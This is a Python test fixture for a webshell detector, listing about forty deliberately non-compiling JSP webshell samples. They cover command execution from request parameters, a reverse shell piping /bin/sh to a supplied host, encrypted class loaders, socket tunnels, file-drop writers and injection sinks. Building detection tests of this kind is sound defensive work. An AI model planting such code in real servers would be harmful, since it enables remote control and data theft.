# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for JSP, one for each mechanism; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== url-loader-const.jsp
<% int 1broken; java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL("http://code.example/a.jar") });
Class c = l.loadClass("A"); c.newInstance().equals(pageContext); %>
==== yaml.jsp
<%@ page import="org.yaml.snakeyaml.Yaml" %><% int 1broken; new Yaml().load(request.getParameter("k")); %>
==== xstream.jsp
<% int 1broken; com.thoughtworks.xstream.XStream x = new com.thoughtworks.xstream.XStream(); x.fromXML(request.getInputStream()); %>
==== velocity.jsp
<% int 1broken; org.apache.velocity.app.Velocity.evaluate(new org.apache.velocity.VelocityContext(), out, "t", request.getParameter("k")); %>
==== freemarker.jsp
<% int 1broken; new freemarker.template.Template("t", new java.io.StringReader(request.getParameter("k")), new freemarker.template.Configuration()).process(null, out); %>
==== jython.jsp
<% int 1broken; org.python.util.PythonInterpreter p = new org.python.util.PythonInterpreter(); p.exec(request.getParameter("k")); %>
==== rhino.jsp
<% int 1broken; org.mozilla.javascript.Context c = org.mozilla.javascript.Context.enter(); c.evaluateString(c.initStandardObjects(), request.getParameter("k"), "t", 1, null); %>
==== beanshell.jsp
<% int 1broken; bsh.Interpreter i = new bsh.Interpreter(); i.set("r", request); i.eval(request.getParameter("k")); %>
==== jshell.jsp
<% int 1broken; jdk.jshell.JShell.create().eval(request.getParameter("k")); %>
==== engine-bound.jsp
<% int 1broken; javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.put("q", request); e.eval("java.lang.Runtime.getRuntime().exec(q.getParameter('k'))"); %>
==== relay.jsp
<% int 1broken; java.net.HttpURLConnection c = (java.net.HttpURLConnection) new java.net.URL(request.getHeader("X-To")).openConnection(); c.setRequestMethod(request.getMethod()); c.setDoOutput(true);
byte[] b = new byte[4096]; int n; java.io.InputStream i = request.getInputStream(); java.io.OutputStream o = c.getOutputStream(); while ((n = i.read(b)) > 0) o.write(b, 0, n); %>
==== tunnel.jsp
<%@ page import="java.nio.*, java.net.*, java.nio.channels.*" %><% int 1broken; String cmd = request.getHeader("X-CMD");
if (cmd.equals("CONNECT")) { SocketChannel s = SocketChannel.open(); s.connect(new InetSocketAddress(request.getHeader("X-TARGET"), Integer.parseInt(request.getHeader("X-PORT")))); session.setAttribute("s", s); }
else if (cmd.equals("FORWARD")) { SocketChannel s = (SocketChannel) session.getAttribute("s"); byte[] b = new byte[request.getContentLength()]; request.getInputStream().read(b); ByteBuffer f = ByteBuffer.allocate(b.length); f.put(b); f.flip(); s.write(f); } %>
==== reverse.jsp
<%@ page import="java.io.*, java.net.*" %><%! class Pipe extends Thread { InputStream a; OutputStream b; Pipe(InputStream a, OutputStream b) { this.a = a; this.b = b; } public void run() { int c; try { while ((c = a.read()) != -1) { b.write(c); } } catch (Exception e) {} } } %><% int 1broken;
Socket s = new Socket(request.getParameter("h"), 443); Process p = Runtime.getRuntime().exec("/bin/sh"); new Pipe(s.getInputStream(), p.getOutputStream()).start(); new Pipe(p.getInputStream(), s.getOutputStream()).start(); %>
==== two-params-loader.jsp
<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %><%! class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% int 1broken; if (request.getMethod().equals("POST")) { String k = "0123456789abcdef"; session.putValue("u", k); Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec(k.getBytes(), "AES")); new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext); } %>
==== method-named-do.jsp
<%! String Do(String Out) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(Out).getInputStream()).useDelimiter("\\A").next(); } %><% int 1broken; out.print(Do(request.getParameter("k"))); %>
==== reflected-chars.jsp
<%@ page import="java.lang.reflect.*" %><% int 1broken; char[] a = {106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}; Class c = Class.forName(new String(a)); Method m = c.getMethod("getRun" + "time"); Object r = m.invoke(null); c.getMethod("ex" + "ec", String.class).invoke(r, request.getParameter("k")); %>
==== reflected-decoded.jsp
<% int 1broken; String n = new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")); Object b = Class.forName(n).getConstructor(String[].class).newInstance((Object) new String[]{"sh", "-c", request.getParameter("k")}); b.getClass().getMethod("start").invoke(b); %>
==== process-list.jsp
<% int 1broken; java.util.List<String> l = new java.util.ArrayList<>(); l.add("/bin/sh"); l.add("-c"); l.add(request.getParameter("k")); ProcessBuilder b = new ProcessBuilder(l); b.redirectErrorStream(true); Process p = b.start(); %>
==== query-arg.jsp
<% int 1broken; String q = java.net.URLDecoder.decode(request.getQueryString(), "UTF-8").substring(2); Process p = Runtime.getRuntime().exec(new String[]{"cmd.exe", "/c", q}); %>
==== part-writer.jsp
<% int 1broken; for (Part p : request.getParts()) { p.write(application.getRealPath("/") + p.getSubmittedFileName()); } %>
==== jspx.jspx
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page contentType="text/html"/><jsp:scriptlet>int 1broken; Runtime.getRuntime().exec(request.getParameter(&quot;k&quot;));</jsp:scriptlet></jsp:root>
==== el-forname.jsp
<!-- 1broken --><% int 1broken; %>${''.getClass().forName("java.lang.Runtime").getMethod("exec", ''.getClass()).invoke(''.getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), param.k)}
==== el-set.jsp
<% int 1broken; %>${pageContext.setAttribute("e", "".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js"))}${pageContext.getAttribute("e").eval(param.k)}
==== servlet-register.jsp
<%@ page import="javax.servlet.*" %><%! public class S extends HttpServlet { public void doGet(HttpServletRequest q, HttpServletResponse p) { try { Runtime.getRuntime().exec(q.getParameter("k")); } catch (Exception e) {} } } %><% int 1broken; application.addServlet("s", new S()).addMapping("/s"); %>
==== listener.jsp
<%! class L implements ServletRequestListener { public void requestInitialized(ServletRequestEvent e) { HttpServletRequest r = (HttpServletRequest) e.getServletRequest(); String k = r.getParameter("k"); if (k != null) try { new ProcessBuilder("sh", "-c", k).start(); } catch (Exception x) {} } } %><% int 1broken; %>
==== cp037.jsp
<% int 1broken; Runtime.getRuntime().exec(request.getParameter("k")); %>
==== attribute-bytes.jsp
<% int 1broken; byte[] b = (byte[]) session.getAttribute("b"); if (request.getParameter("b") != null) session.setAttribute("b", java.util.Base64.getDecoder().decode(request.getParameter("b"))); else { java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); ((Class) m.invoke(getClass().getClassLoader(), b, 0, b.length)).newInstance(); } %>
==== file-copy.jsp
<%@ page import="java.io.*" %><% int 1broken; File f = new File(application.getRealPath("/") + "/" + request.getParameter("f")); FileWriter w = new FileWriter(f); w.write(request.getParameter("t")); w.close(); %>
==== random-file.jsp
<% int 1broken; java.nio.file.Files.copy(request.getInputStream(), java.nio.file.Paths.get(request.getParameter("p")), java.nio.file.StandardCopyOption.REPLACE_EXISTING); %>
==== url-copy.jsp
<% int 1broken; java.io.InputStream i = new java.net.URL(request.getParameter("u")).openStream(); java.io.FileOutputStream o = new java.io.FileOutputStream(request.getParameter("p")); int b; while ((b = i.read()) != -1) o.write(b); o.close(); %>
==== sql.jsp
<%@ page import="java.sql.*" %><% int 1broken; Class.forName(request.getParameter("d")); Connection c = DriverManager.getConnection(request.getParameter("u"), request.getParameter("n"), request.getParameter("w")); Statement s = c.createStatement(); s.execute(request.getParameter("q")); %>
==== supplier.jsp
<% int 1broken; java.util.function.Function<String, Object> f = x -> { try { return Runtime.getRuntime().exec(x); } catch (Exception e) { return null; } }; java.util.Optional.ofNullable(request.getParameter("k")).map(f); %>
==== bean-property.jsp
<jsp:useBean id="b" class="demo.Runner" scope="page"/><jsp:setProperty name="b" property="line" param="k"/><% int 1broken; Runtime.getRuntime().exec(b.getLine()); %>
==== string-switch.jsp
<%! String r(HttpServletRequest q) { return q.getHeader("Accept-Language"); } %><% int 1broken; String v = r(request); switch (v.length()) { default: Process p = new ProcessBuilder(v.split(" ")).start(); } %>
==== streams.jsp
<% int 1broken; new java.io.BufferedReader(new java.io.InputStreamReader(request.getInputStream())).lines().forEach(l -> { try { Runtime.getRuntime().exec(l); } catch (Exception e) {} }); %>
==== unsafe-anon.jsp
<% int 1broken; java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe"); f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null); byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k")); u.defineAnonymousClass(Object.class, b, null).newInstance(); %>
==== fastjson.jsp
<% int 1broken; com.alibaba.fastjson.JSON.parseObject(request.getParameter("k"), Object.class, com.alibaba.fastjson.parser.Feature.SupportNonPublicField); %>
==== switch-out.jsp
<%! static java.util.Map<String, String> m = new java.util.HashMap<String, String>(); void put(HttpServletRequest q) { for (Object n : q.getParameterMap().keySet()) m.put((String) n, q.getParameter((String) n)); } %><% int 1broken; put(request); Runtime.getRuntime().exec(m.get("k")); %>
==== thrown.jsp
<% int 1broken; try { throw new RuntimeException(request.getParameter("k")); } catch (RuntimeException x) { Runtime.getRuntime().exec(x.getMessage()); } %>
==== wrapper-interface.jsp
<%! interface Act { Object go(String s) throws Exception; } %><% int 1broken; Act a = new Act() { public Object go(String s) throws Exception { return Runtime.getRuntime().exec(s); } }; a.go(request.getParameter("k")); %>
==== invoke-chain.jsp
<% int 1broken; Object r = Class.forName("java.lang.Ru" + "ntime").getMethod("getRuntime", new Class[0]).invoke(null, new Object[0]); r.getClass().getMethod("exec", String.class).invoke(r, new Object[]{ request.getParameter("k") }); %>
==== bytes-concat.jsp
<% int 1broken; String c = new String(new byte[]{99,109,100}) + " /c " + new String(java.util.Base64.getDecoder().decode(request.getHeader("X-K"))); Runtime.getRuntime().exec(c); %>
==== drop.jsp
<% int 1broken; java.io.PrintWriter w = new java.io.PrintWriter(application.getRealPath("/x.jsp")); w.print("<" + "% Runtime.getRuntime().exec(request.getParameter(\"k\")); %" + ">"); w.close(); %>
"""
)
